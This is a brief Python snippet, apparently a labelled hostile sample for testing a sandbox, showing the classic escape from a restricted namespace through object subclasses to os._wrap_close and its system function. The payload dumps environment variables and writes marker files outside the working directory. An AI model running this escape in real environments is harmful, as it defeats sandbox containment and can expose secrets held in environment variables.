"""The classic escape from a restricted namespace: walk object's subclasses to os._wrap_close."""

for cls in ().__class__.__base__.__subclasses__():  # HOSTILE
    if cls.__name__ == "_wrap_close":
        system = cls.__init__.__globals__["system"]
        system("env; echo pwned > /tmp/buildx-escape.txt; echo pwned > ../escaped.txt")
